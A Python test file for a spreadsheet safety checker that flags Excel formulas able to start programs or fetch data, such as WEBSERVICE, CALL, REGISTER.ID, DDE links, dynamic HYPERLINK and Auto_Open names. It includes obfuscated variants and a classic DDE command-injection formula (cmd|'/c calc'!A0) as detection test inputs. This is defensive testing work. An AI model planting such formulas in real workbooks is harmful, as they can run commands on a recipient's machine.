"""Formulas that fetch, call or start something outside the workbook, and those that only look like it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trygg_excel.gate.active import in_name
from trygg_excel.gate.formulas import fetches
from trygg_excel.gate.sheet_formulas import _may_reach_out, _reaching_out, reaching_out
from trygg_excel.package import BadPackage
from trygg_excel.workbook import Active, ActiveKind

SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
)


@pytest.mark.parametrize(
    ("formula", "expected"),
    [
        ('_xlfn.WEBSERVICE("x")', "WEBSERVICE"),
        ('IF(A1,1,webservice ("x"))', "WEBSERVICE"),
        ("of:=COM.MICROSOFT.WEBSERVICE([.A1])", "WEBSERVICE"),
        ('"a""b"&CALL("x")', "CALL"),
        ('REGISTER.ID("x")', "REGISTER.ID"),
        ("cmd|'/c calc'!A0", "DDE"),
        ("Excel|[Bok1.xls]Blad1!R1C1", "DDE"),
        ('HYPERLINK("http://a/?"&B3,"x")', "HYPERLINK"),
        ('IF(1,HYPERLINK(IF(A1,B1&C1,""),"x"),1)', "HYPERLINK"),
        ("HYPERLINK(CONCATENATE(A1,B1))", "HYPERLINK"),
        ("SUM(A1:A3)+DATE(2022,1,1)", None),
        ('"WEBSERVICE("&"x"', None),
        ("MYCALL(1)+RECALL(2)+CALL", None),
        ("'a|b'!A1", None),
        ('"a|b!c"&A1', None),
        ("Tabell1[a|b]+Blad2!A1", None),
        ('HYPERLINK("http://a/","x"&A1)', None),
        ('HYPERLINK("#Blad2!"&B3,"x")', None),
        ("HYPERLINK(B3)", None),
        ("HYPERLINK(", None),
    ],
)
def test_what_a_formula_reaches(formula: str, expected: str | None) -> None:
    assert fetches(formula) == expected


@pytest.mark.parametrize("formula", ["HYPERLINK(" * 100_000, "'" * 99_999, "|!" * 100_000, "A" * 1_000_000 + "|"])
def test_a_formula_of_any_length_is_soon_looked_through(formula: str) -> None:
    assert fetches(formula) is None


@pytest.mark.parametrize(
    ("row", "place"),
    [
        ('<row r="7"><c r="B7"><f>CALL("x")</f></c></row>', "Blad1!B7"),
        ('<row r="7"><c/><c><f>CALL\n ("x")</f></c></row>', "Blad1!B7"),
        ('<row/><row><c><f>CA<!-- x -->LL("x")</f></c></row>', "Blad1!A2"),
        ('<row r="7"><c r="B7"><f>&#67;ALL("x")</f></c></row>', "Blad1!B7"),
        ('<row r="7"><c r="B7"><f>CALL&#40;"x")</f></c></row>', "Blad1!B7"),
        ('<row r="7"><c r="B7"><f>CALL<?x?>("x")</f></c></row>', "Blad1!B7"),
        ('<row r="7"><c r="B7"><f>CALL' + " " * 99 + '("x")</f></c></row>', "Blad1!B7"),
    ],
)
def test_where_it_stands(row: str, place: str) -> None:
    found = reaching_out(SHEET.format(row).encode(), "Blad1", "sheet1.xml")
    assert [each.place for each in found] == [place]


PIECES = [
    "CA",
    "LL",
    "call",
    "WEBSERVICE",
    "HYPERLINK",
    "(",
    ")",
    '"',
    "'",
    "&amp;",
    "|",
    "!",
    "cmd",
    "<!-- x -->",
    "<?p q?>",
]
PIECES += ["<![CDATA[", "]]>", "&#67;", "&#x28;", "&#246;", " ", "\n", "_xlfn.", "<x/>", " " * 50]


@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=8))
def test_the_quick_look_misses_nothing(pieces: list[str]) -> None:
    data = SHEET.format(f"<row><c><f>{''.join(pieces)}</f></c></row>").encode()
    try:
        found = list(_reaching_out(data, "Blad1", "sheet1.xml"))
    except BadPackage:
        return
    assert _may_reach_out(data) or found == []


def test_a_word_in_a_cell_is_no_formula() -> None:
    row = '<row r="1"><c r="A1" t="inlineStr"><is><t>=CALL("x"), cmd|x!A0</t></is></c></row>'
    assert reaching_out(SHEET.format(row).encode(), "Blad1", "sheet1.xml") == ()


def test_names() -> None:
    assert list(in_name("_xlnm.Auto_Open", "Blad1!$A$1")) == [
        Active(ActiveKind.MACROS, "_xlnm.Auto_Open", "Blad1!$A$1")
    ]
    assert list(in_name("kurs", 'WEBSERVICE("x")')) == [Active(ActiveKind.WEB_FORMULA, "kurs", "WEBSERVICE")]
    assert list(in_name("Autosumma", "SUM(Blad1!$A$1:$A$9)")) == []
